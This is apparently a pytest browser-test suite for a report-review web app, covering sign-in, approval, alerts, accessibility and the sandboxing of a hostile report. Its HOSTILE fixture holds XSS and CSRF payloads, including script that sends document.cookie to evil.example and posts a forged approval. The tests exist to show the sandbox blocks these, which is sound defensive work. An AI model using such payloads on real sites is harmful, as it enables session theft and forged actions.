"""Reports in a real Chromium: signing in, approving by the button, and a hostile report that reaches nothing."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from mlprod_nb.clock import utc_now
from mlprod_nb.store import alerts, evidence, report_index, tables
from mlprod_nb.store.alerts import NewAlert
from tests.notebook_files import code, html
from tests.reports.chromium import browser as browser
from tests.reports.chromium import opened, violations
from tests.reports.hostile import HOSTILE as NAUGHTY
from tests.reports.pages import ROWS, SORTED, page, shown
from tests.serving.raised_alerts import alert, raise_alert
from tests.serving.report_visits import PAGE, PLACE, given, given_digest, token_of
from tests.serving.workshop import Workshop, on_a_socket
from tests.store.report_files import written

pytestmark = pytest.mark.browser

HOSTILE = """<!doctype html><html><body><h1>three columns drifted.</h1>
<script>document.documentElement.dataset.ran = "yes"; parent.document.title = "taken";
fetch("/reports/approve", {method: "POST", credentials: "include", body: "digest=DIGEST&reason=x"});
new Image().src = "https://evil.example/" + document.cookie;</script>
<img src="x" onerror="document.documentElement.dataset.ran = 'yes'">
<form id="trap" action="/reports/approve" method="post" target="_top">
<input name="digest" value="DIGEST"><input name="reason" value="x"><button id="send">Send</button></form>
<a id="away" href="https://evil.example/" target="_top">away</a>
<a id="home" href="/reports/approve" target="_top">home</a>
<iframe src="/reports/"></iframe><object data="/reports/"></object><embed src="/reports/">
<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example/">
</body></html>"""


@pytest.fixture
def reports(shop: Workshop) -> Workshop:
    """A workspace with one report that can be approved, and whose page is hostile."""
    record = written(shop.layout.root, name=f"reports/{PLACE}")
    folder = shop.layout.root / record.path
    (folder / "index.html").write_text(HOSTILE.replace("DIGEST", record.digest), encoding="utf-8")
    sealed = report_index.ReportRecord(**{**record.__dict__, "files": evidence.seal(folder)})
    with shop.store() as store, store.write() as connection:
        report_index.add(connection, sealed)
    return shop


@contextmanager
def signed_in(browser: Any, url: str, token: str, **options: Any) -> Iterator[tuple[Any, list[Any]]]:
    """Yield a tab that signed in and shows the report, and every request that it began."""
    context = browser.new_context(**options)
    tab = context.new_page()
    asked: list[Any] = []
    tab.on("request", lambda request: asked.append(request))
    tab.goto(f"{url}{PAGE}")
    tab.get_by_label("Token").fill(token)
    tab.get_by_role("button", name="Sign in").click()
    tab.get_by_role("button", name="Sign out").wait_for()  # the form to sign in stands at the same address
    tab.wait_for_load_state("load")
    yield tab, asked
    context.close()


def test_a_reviewer_signs_in_reads_and_approves(browser: Any, reports: Workshop) -> None:
    token = token_of(reports, "bob")
    with on_a_socket(reports) as (url, _), signed_in(browser, url, token) as (tab, _):
        inside = tab.frame_locator("iframe")
        assert inside.get_by_role("heading").inner_text() == "three columns drifted."
        tab.get_by_label("Why you approve").fill("drift is seasonal")
        tab.get_by_role("button", name="Approve as bob").click()
        tab.get_by_text("You approved it.").wait_for()
        tab.get_by_role("link", name="All reports").click()
        tab.wait_for_url(f"{url}/reports/")
        assert tab.get_by_text("1 approval", exact=True).is_visible()
        tab.get_by_label("Show only what contains").fill("nothing like it")
        assert tab.get_by_text("0 of 1 shown").is_visible()
        tab.get_by_label("Show only what contains").fill("")
        tab.get_by_role("link", name=re.compile("three columns")).last.click()
        tab.wait_for_url(f"{url}{PAGE}")
        tab.get_by_role("button", name="Sign out").click()
        tab.wait_for_url(f"{url}/reports/login")
    [approval] = given(reports)
    assert (approval.actor, approval.reason) == ("bob", "drift is seasonal")


def test_tables_are_whole_in_the_frame_and_sorted_in_the_file_that_it_is_saved_as(
    browser: Any, shop: Workshop, tmp_path: Path
) -> None:
    record = written(shop.layout.root, name=f"reports/{PLACE}")
    folder = shop.layout.root / record.path
    (folder / "index.html").write_text(page(code("x", outputs=[html(SORTED)]), shown()), encoding="utf-8")
    sealed = report_index.ReportRecord(**{**record.__dict__, "files": evidence.seal(folder)})
    with shop.store() as store, store.write() as connection:
        report_index.add(connection, sealed)
    with on_a_socket(shop) as (url, _), signed_in(browser, url, token_of(shop, "bob")) as (tab, _):
        inside = tab.frame_locator("iframe")
        assert inside.locator("tbody tr:visible").count() == len(ROWS)
        assert inside.get_by_role("button").count() == 0
        with tab.expect_download() as saving:
            tab.get_by_role("link", name="Save as a file").click()
        file = tmp_path / saving.value.suggested_filename
        saving.value.save_as(file)
        alone, asked = opened(browser, file)
        alone.get_by_role("button", name="name").click()
        assert "".join(alone.locator("tbody td:first-child").all_inner_texts()) == "abcd"
        assert asked == []
        (folder / "index.html").write_text("altered", encoding="utf-8")
        tab.reload()
        assert tab.get_by_text("Do not rely on this report").is_visible()
        assert tab.get_by_role("link", name="Save as a file").count() == 0


def test_a_hostile_report_runs_nothing_sends_nothing_and_reaches_no_form(browser: Any, reports: Workshop) -> None:
    token = token_of(reports, "bob")
    with on_a_socket(reports) as (url, _), signed_in(browser, url, token) as (tab, asked):
        tab.wait_for_load_state("networkidle")
        [_, frame, *_] = tab.frames
        assert frame.evaluate("document.documentElement.dataset.ran") is None
        assert frame.evaluate("self.origin") == "null"
        with pytest.raises(Exception, match="SecurityError"):
            frame.evaluate("document.cookie")
        title = tab.title()
        frame.evaluate("document.getElementById('trap').submit()")
        for button in ("#send", "#away", "#home"):
            frame.locator(button).click()
        tab.wait_for_load_state("networkidle")
        assert (tab.url, tab.title()) == (f"{url}{PAGE}", title)
        # What the policy stops is told of, and never sent.
        sent = [request for request in asked if request.failure != "csp" and not request.url.startswith("data:")]
        assert [request.url for request in sent if not request.url.startswith(f"{url}/reports/")] == []
        assert [request.url for request in sent if request.method == "POST"] == [f"{url}/reports/login"]
        # Opened by itself, it is in its sandbox too.
        tab.goto(f"{url}{PAGE}?page")
        assert tab.evaluate("document.documentElement.dataset.ran") is None
        assert tab.evaluate("self.origin") == "null"
    assert not given(reports)
    assert given_digest(reports)


@pytest.mark.parametrize("width", [360, 1200])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_the_pages_around_fit_the_screen_and_break_no_rule_for_screen_readers(
    browser: Any, shop: Workshop, width: int, scheme: str
) -> None:
    record = written(shop.layout.root, name=f"reports/{PLACE}")
    with shop.store() as store, store.write() as connection:
        report_index.add(connection, record)
    raise_alert(shop, "flights")
    size = {"width": width, "height": 800}
    token = token_of(shop, "bob")
    with on_a_socket(shop) as (url, _):
        tab = browser.new_page(viewport=size, color_scheme=scheme)
        tab.goto(f"{url}/reports/login")
        assert tab.evaluate("document.documentElement.scrollWidth") <= width
        assert violations(tab) == []
        tab.close()
        with signed_in(browser, url, token, viewport=size, color_scheme=scheme) as (tab, _):
            assert tab.evaluate("document.documentElement.scrollWidth") <= width
            [_, inside] = tab.frames
            assert inside.evaluate("innerHeight") > 300
            tab.get_by_text("Alerts of this endpoint: 1 open").press("Enter")
            assert tab.get_by_role("button", name="Acknowledge").is_visible()
            assert inside.evaluate("innerHeight") > 250
            assert tab.evaluate("document.documentElement.scrollWidth") <= width
            assert violations(tab) == []


def test_the_bar_has_its_links_and_sign_out_in_one_row_above_the_form(browser: Any, reports: Workshop) -> None:
    size = {"width": 1200, "height": 800}
    with (
        on_a_socket(reports) as (url, _),
        signed_in(browser, url, token_of(reports, "bob"), viewport=size) as (tab, _),
    ):
        link, leave, approve = (
            part.bounding_box()
            for part in (
                tab.get_by_role("link", name="All reports"),
                tab.get_by_role("button", name="Sign out"),
                tab.get_by_role("button", name="Approve as bob"),
            )
        )
        assert leave["y"] < link["y"] + link["height"] < approve["y"]


def test_on_paper_the_frame_says_how_to_print_the_report_whole(browser: Any, reports: Workshop) -> None:
    with on_a_socket(reports) as (url, _), signed_in(browser, url, token_of(reports, "bob")) as (tab, _):
        told = tab.get_by_text("To print it whole, choose “Save as a file” and print that file.")
        assert not told.is_visible()
        tab.emulate_media(media="print")
        assert told.is_visible()
        assert not tab.get_by_role("button", name="Approve as bob").is_visible()
        (reports.layout.root / "reports" / PLACE / "index.html").write_text("altered", encoding="utf-8")
        tab.reload()
        assert tab.get_by_text("To print it whole, add ?page to its address and print that page.").is_visible()


def test_a_reviewer_acknowledges_an_alert_beside_the_report(browser: Any, reports: Workshop) -> None:
    raise_alert(reports, "flights")
    with on_a_socket(reports) as (url, _), signed_in(browser, url, token_of(reports, "bob")) as (tab, _):
        tab.get_by_text("Alerts of this endpoint: 1 open").click()
        form = tab.get_by_role("form", name="Alert 1")
        form.get_by_label("Why").fill("storms of June")
        form.get_by_role("button", name="Snooze").click()
        tab.get_by_role("alert").get_by_text("a snooze needs an end").wait_for()
        assert form.get_by_label("Why").input_value() == "storms of June"
        form.get_by_label("Until").fill("3 days")
        form.get_by_role("button", name="Snooze").click()
        tab.wait_for_url(f"{url}{PAGE}")
        tab.get_by_text("Alerts of this endpoint: 1 snoozed").click()
        assert "snoozed by bob until" in tab.get_by_role("listitem").last.inner_text()
    held = alert(reports).hold
    assert held is not None
    assert (held.kind, held.actor, held.reason) == ("snoozed", "bob", "storms of June")


def test_no_naughty_name_reason_or_alert_runs_or_asks_for_anything(browser: Any, shop: Workshop) -> None:
    record = written(shop.layout.root, name=f"reports/{PLACE}")
    now = utc_now()
    with shop.store() as store, store.write() as connection:
        report_index.add(connection, record)
        for text in NAUGHTY:
            row = {"report_digest": record.digest, "actor": text[:200], "reason": text, "at": now}
            connection.execute(sa.insert(tables.approvals).values(row))
        for at, text in enumerate(NAUGHTY[:20]):
            said = NewAlert("flights", "drift", "alarm", text, text, "", "")
            number = alerts.add(connection, said, [f"drift:{at} {text}"[:200]], now=now)
            assert number is not None
            alerts.hold(connection, number, "acknowledged", until="", actor=text[:200], reason=text, now=now)
    with on_a_socket(shop) as (url, _), signed_in(browser, url, token_of(shop, "bob")) as (tab, asked):
        tab.on("dialog", lambda dialog: pytest.fail(dialog.message))
        tab.get_by_text("Alerts of this endpoint: 20 acknowledged").click()
        tab.reload()
        tab.wait_for_load_state("networkidle")
        assert tab.evaluate("window.hit") is None
        assert tab.locator("header li").count() == len(NAUGHTY) > 100
        assert tab.locator("script, img, svg, object, embed, base, meta[http-equiv]").count() == 0
        assert {request.url for request in asked if not request.url.startswith(f"{url}/reports/")} == set()
        assert tab.evaluate("document.documentElement.scrollWidth <= innerWidth")
        assert tab.get_by_role("button", name="Approve as bob").is_visible()
